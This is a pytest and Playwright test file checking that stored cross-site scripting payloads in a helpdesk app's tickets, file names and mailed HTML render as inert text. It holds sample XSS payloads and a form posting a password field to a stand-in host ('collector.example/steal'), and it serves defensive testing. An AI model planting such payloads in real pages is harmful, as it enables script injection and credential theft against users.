"""Stored script payloads stay inert: in subjects, bodies, file names and mailed HTML.

The strict Content-Security-Policy would stop an injected inline handler even if escaping
failed, so these tests look at the page itself: no injected element or handler may exist in the
DOM, no dialog may open, and each payload must read as the plain text it was sent as.
"""

from __future__ import annotations

from email.message import EmailMessage

import pytest
from playwright.sync_api import expect

from caredesk.intake.services import mail_ingest
from caredesk.tickets.models import MessageKind, Ticket
from caredesk.tickets.services import Body, Upload, message_add
from tests.factories import PASSWORD, make_ticket, requester_with_login, supervisor

pytestmark = pytest.mark.e2e

SUBJECT = 'Pump alarm <img src=x onerror="window.__xss=1"> <script>window.__xss=2</script>'
BODY = "My reading was <svg onload=window.__xss=3></svg> and then </textarea><b>bold</b>"
FILENAME = '"><img src=x onerror=window.__xss=4>.txt'
MAIL_HTML = """<html><head><style>body{display:none}</style>
<script>window.__xss=5</script></head><body>
<p onclick="window.__xss=6">The scale <b>stopped</b> syncing.</p>
<a href="javascript:window.__xss=7">open my results</a>
<iframe src="javascript:window.__xss=8"></iframe>
<img src="data:image/svg+xml,<svg onload=window.__xss=9>">
<form action="https://collector.example/steal"><input name="pw"></form>
</body></html>"""

# What must never exist in a page that shows these tickets.
INJECTED = """() => {
  const found = [];
  for (const el of document.querySelectorAll("*")) {
    for (const attr of el.getAttributeNames()) {
      if (attr.startsWith("on")) found.push(`${el.tagName.toLowerCase()}[${attr}]`);
    }
  }
  for (const s of document.querySelectorAll("script")) {
    if (!s.src || !s.src.startsWith(location.origin + "/static/")) found.push("script " + (s.src || "inline"));
  }
  for (const el of document.querySelectorAll("iframe, object, embed, svg[onload], form[action^='http']")) {
    found.push(el.tagName.toLowerCase());
  }
  for (const a of document.querySelectorAll("a[href]")) {
    if (a.getAttribute("href").trim().toLowerCase().startsWith("javascript:")) found.push("javascript: link");
  }
  for (const img of document.querySelectorAll(".msg-body img")) found.push("img in a message: " + img.src.slice(0, 30));
  if (window.__xss !== undefined) found.push("ran: " + window.__xss);
  return found;
}"""


def _mail(sender: str) -> bytes:
    msg = EmailMessage()
    msg["From"] = f"Noor Halvorsen <{sender}>"
    msg["To"] = "support@caredesk.example"
    msg["Subject"] = 'Scale <script>window.__xss="subject"</script> will not sync'
    msg["Message-ID"] = "<xss-1@patients.example>"
    msg.set_content(MAIL_HTML, subtype="html")  # HTML only, so the HTML is what is kept
    msg.add_attachment(
        b"log line 1\n", maintype="text", subtype="plain", filename="<svg onload=alert(1)>.log"
    )
    return msg.as_bytes()


@pytest.fixture
def payloads():
    requester = requester_with_login(name="Noor Halvorsen", email="noor.halvorsen@patients.example")
    typed = make_ticket(requester=requester, subject=SUBJECT, body=BODY)
    outcome = mail_ingest(raw=_mail(requester.email))
    assert outcome.status == "created", outcome
    mailed = Ticket.objects.exclude(pk=typed.pk).get()
    message_add(
        ticket=typed,
        kind=MessageKind.PUBLIC,
        actor=requester,
        body=Body(text="The export is attached."),
        uploads=(Upload(filename=FILENAME, content_type="text/plain", data=b"reading 120/80\n"),),
    )
    # HTML written through the services (as the API and the desk's editor send it)
    message_add(ticket=typed, kind=MessageKind.PUBLIC, actor=requester, body=Body(html=MAIL_HTML))
    return requester, typed, mailed


def _no_dialogs(screen) -> list[str]:
    opened: list[str] = []
    screen.page.on("dialog", lambda d: (opened.append(d.message), d.dismiss()))
    return opened


def _inert(screen, where: str, opened: list[str]) -> None:
    found = screen.page.evaluate(INJECTED)
    assert found == [], f"{where}: {found}"
    assert opened == [], f"{where}: a dialog opened: {opened}"


def test_payloads_stay_text_on_the_desk(payloads, screen):
    _, typed, mailed = payloads
    lead = supervisor()
    opened = _no_dialogs(screen)
    screen.login(lead.email, PASSWORD)
    page = screen.page

    screen.goto("/agent/?queue=open")
    expect(page.get_by_text("Pump alarm <img src=x", exact=False)).to_be_visible()
    _inert(screen, "queue", opened)

    screen.goto("/agent/?queue=open&q=Pump")
    expect(page.get_by_text("<script>window.__xss=2</script>", exact=False)).to_be_visible()
    _inert(screen, "search results", opened)

    screen.goto(f"/agent/tickets/{typed.pk}/")
    expect(page.get_by_role("heading", level=1)).to_contain_text("<img src=x onerror=")
    expect(page.get_by_text("<svg onload=window.__xss=3></svg>", exact=False)).to_be_visible()
    expect(page.get_by_text(FILENAME)).to_be_visible()
    expect(page.locator(".msg-body b", has_text="stopped")).to_be_visible()  # formatting kept
    _inert(screen, "ticket typed with payloads", opened)

    screen.goto(f"/agent/tickets/{mailed.pk}/")
    body = page.locator(".msg-body").first
    expect(body).to_contain_text("The scale stopped syncing.")
    expect(body.get_by_text("open my results")).to_be_visible()
    expect(body.get_by_role("link")).to_have_count(0)  # the javascript: link lost its target
    expect(page.get_by_text("<svg onload=alert(1)>.log")).to_be_visible()
    _inert(screen, "ticket from HTML mail", opened)
    screen.check("desk pages with stored payloads")


def test_payloads_stay_text_in_the_portal(payloads, screen):
    requester, typed, mailed = payloads
    opened = _no_dialogs(screen)
    screen.login(requester.email, PASSWORD)
    for ticket in (typed, mailed):
        screen.goto(f"/portal/tickets/{ticket.pk}/")
        _inert(screen, f"portal ticket {ticket.pk}", opened)
    screen.goto("/portal/")
    expect(screen.page.get_by_text("Pump alarm <img src=x", exact=False)).to_be_visible()
    _inert(screen, "portal home", opened)
    screen.check("portal pages with stored payloads")
